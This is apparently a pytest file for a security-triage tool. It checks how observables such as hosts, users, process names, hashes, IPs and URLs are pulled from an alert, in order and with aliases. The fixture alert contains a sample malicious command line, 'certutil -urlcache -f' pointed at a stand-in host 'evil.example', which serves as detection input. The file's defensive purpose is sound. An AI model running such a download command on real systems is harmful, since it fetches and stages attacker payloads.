"""An alert's entities (service/alert_entities.py): one documented order, the field each value came from, the
other spellings on request, command lines left out on request, and a caller's own order through `pick`."""

from __future__ import annotations

from datetime import UTC, datetime

from soctriage.service.alert_entities import OBSERVABLES, Entity, alert_entities, alert_text, pick
from soctriage.service.domain import (
    Alert,
    Device,
    FileInfo,
    Network,
    Observable,
    ParentProcess,
    Process,
    Source,
    User,
)

SHA = "a" * 64


def alert() -> Alert:
    return Alert(
        id="ocsf-1",
        source=Source(vendor="test", product="test", format="ocsf"),
        time=datetime(2026, 1, 1, tzinfo=UTC),
        title="Suspicious download",
        raw="{}",
        device=Device(hostname="ws01.corp.example", ip="10.0.0.5"),
        user=User(name="alice", domain="CORP"),
        process=Process(
            name="certutil.exe",
            pid=42,
            cmdline="certutil -urlcache -f http://evil.example/x.exe",
            sha256=SHA,
            parent=ParentProcess(name="cmd.exe", cmdline=""),
        ),
        file=FileInfo(name="x.exe", md5="b" * 32),
        network=Network(src_ip="10.0.0.5", dst_ip="203.0.113.7", url="http://evil.example/x.exe"),
        observables=(
            Observable(type="url", value="https://other.example/y"),
            Observable(type="ip", value="1.2.3.4"),
        ),
    )


def test_entities_come_in_one_order_with_their_fields_and_no_empty_values() -> None:
    assert alert_entities(alert()) == [
        Entity("hostname", "ws01.corp.example", "device.hostname"),
        Entity("ip", "10.0.0.5", "device.ip"),
        Entity("user", "alice", "user.name"),
        Entity("process", "certutil.exe", "process.name"),
        Entity("pid", 42, "process.pid"),
        Entity("sha256", SHA, "process.sha256"),
        Entity("cmdline", "certutil -urlcache -f http://evil.example/x.exe", "process.cmdline"),
        Entity("process", "cmd.exe", "process.parent.name"),
        Entity("file", "x.exe", "file.name"),
        Entity("md5", "b" * 32, "file.md5"),
        Entity("ip", "10.0.0.5", "network.src_ip"),
        Entity("ip", "203.0.113.7", "network.dst_ip"),
        Entity("url", "http://evil.example/x.exe", "network.url"),
        Entity("url", "https://other.example/y", OBSERVABLES),
        Entity("ip", "1.2.3.4", OBSERVABLES),
    ]


def test_aliases_follow_the_field_they_spell_and_free_text_can_be_left_out() -> None:
    found = alert_entities(alert(), aliases=True, free_text=False)
    assert not [e for e in found if e.kind == "cmdline"]
    assert Entity("hostname", "ws01", "device.hostname") in found
    assert Entity("user", "CORP\\alice", "user.name") in found
    assert Entity("user", "alice@CORP", "user.name") in found
    assert Entity("domain", "evil.example", "network.url") in found
    assert Entity("domain", "other.example", OBSERVABLES) in found
    assert found.index(Entity("hostname", "ws01", "device.hostname")) < found.index(
        Entity("user", "alice", "user.name")
    )


def test_pick_keeps_the_callers_order_of_fields_and_filters_kinds() -> None:
    picked = pick(alert(), ("network.dst_ip", OBSERVABLES, "process.sha256"), {"ip", "sha256"})
    assert [e.value for e in picked] == ["203.0.113.7", "1.2.3.4", SHA]


def test_the_text_names_what_where_and_how() -> None:
    text = alert_text(alert())
    assert text.startswith("Suspicious download | certutil.exe | certutil -urlcache")
    assert "parent cmd.exe" in text and "host ws01.corp.example" in text and "user alice" in text
